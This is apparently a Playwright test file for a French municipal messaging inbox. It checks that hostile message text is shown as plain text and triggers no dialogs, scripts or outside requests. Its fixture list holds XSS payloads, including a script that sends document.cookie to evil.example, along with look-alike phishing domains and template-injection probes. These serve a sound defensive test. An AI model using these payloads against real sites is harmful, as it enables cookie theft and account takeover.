"""Hostile message text is rendered inert in Chromium: no dialog fires, no script runs, no request
leaves for another host, and the citizen's words are shown as text."""
import json
from urllib.parse import urlsplit

import requests
from playwright.sync_api import expect

from inbox.blueprints.api import sign
from inbox.models import Author, Conversation

HOSTILE = [
    "<script>alert('script')</script>Bonjour",
    "<img src=x onerror=\"alert('img')\"> photo du trottoir",
    "<a href=\"javascript:alert('lien')\">cliquez ici</a>",
    "[le formulaire](javascript:alert('markdown'))",
    "<svg onload=alert('svg')></svg><iframe src=\"https://evil.example/\"></iframe>",
    "<img src=\"https://203.0.113.9/pixel.png\"> <link rel=stylesheet href=\"https://evil.example/x.css\">",
    "Payez ici : https://mairie-vi11eneuve.fr/paiement et https://xn--mairi-cva.fr (sosie)",
    "\"><script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "{{ 7*7 }} {% raw %} ${7*7}",
]


def _post(live_server, channel, payload):
    body = json.dumps(payload).encode()
    return requests.post(f"{live_server.url}/api/v1/channels/{channel.id}/messages", data=body, timeout=10,
                         headers={"Content-Type": "application/json",
                                  "X-Parvis-Signature": sign(channel.signing_secret, body)})


def test_hostile_text_is_shown_as_text_and_does_nothing(app, factory, live_server, page):
    channel = factory.channel(name="<b>Canal</b>")
    for i, text in enumerate(HOSTILE):
        payload = factory.payload(external_id=f"x-{i}", text=text, thread_external_id="t-hostile")
        payload["author"] = {"external_id": "h", "name": "<img src=x onerror=alert('nom')>", "handle": "<i>h</i>"}
        payload["post"] = {"external_id": "p", "text": "<script>alert('post')</script>", "url": "https://example.org/p"}
        assert _post(live_server, channel, payload).status_code == 201
    refused = factory.payload(external_id="x-js", permalink="javascript:alert(1)",
                              post={"external_id": "p2", "url": "javascript:alert(2)"})
    response = _post(live_server, channel, refused)
    assert response.status_code == 400 and {"permalink", "post"} <= set(response.json()["errors"])
    admin = factory.user(role="admin", email="admin@parvis.example")
    conversation_id = Conversation.query.one().id
    author_id = Author.query.one().id

    dialogs, outside, local = [], [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def record(route):
        host = urlsplit(route.request.url).hostname
        if host not in ("127.0.0.1", "localhost"):
            outside.append(route.request.url)
            route.abort()
        else:
            local.append(route.request.url)
            route.continue_()

    page.route("**/*", record)
    page.goto(f"{live_server.url}/login")
    page.get_by_label("Adresse e-mail").fill(admin.email)
    page.get_by_label("Mot de passe").fill("correct horse battery")
    page.get_by_role("button", name="Se connecter").click()
    expect(page.get_by_role("heading", name="Boîte de réception")).to_be_visible()
    for path in ("/?status=all", f"/conversations/{conversation_id}", f"/privacy/?q=h",
                 f"/privacy/authors/{author_id}", "/audit/"):
        page.goto(f"{live_server.url}{path}")
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)
        assert page.locator("script:not([src^='/static/'])").count() == page.locator("script[type='application/json']").count()  # only our files
        assert page.locator("script:not([src]):not([type='application/json'])").count() == 0
        for selector in ("[onerror]", "[onload]", "iframe", "svg", "link[href*='evil']", "a[href^='javascript']",
                         "img:not([src^='/'])"):
            assert page.locator(selector).count() == 0, (path, selector)
    page.goto(f"{live_server.url}/conversations/{conversation_id}")
    thread = page.locator(".thread")
    expect(thread).to_contain_text("<script>alert('script')</script>Bonjour")
    expect(thread).to_contain_text("<img src=x onerror=\"alert('img')\">")
    expect(thread).to_contain_text("https://mairie-vi11eneuve.fr/paiement")
    assert page.locator("a[href*='vi11eneuve'], a[href*='xn--']").count() == 0  # look-alikes are not links
    expect(page.locator("h1")).to_contain_text("<img src=x onerror=alert('nom')>")
    assert dialogs == []
    assert outside == []
    assert any(url.endswith("/static/parvis.js") for url in local)  # the recorder did see every request
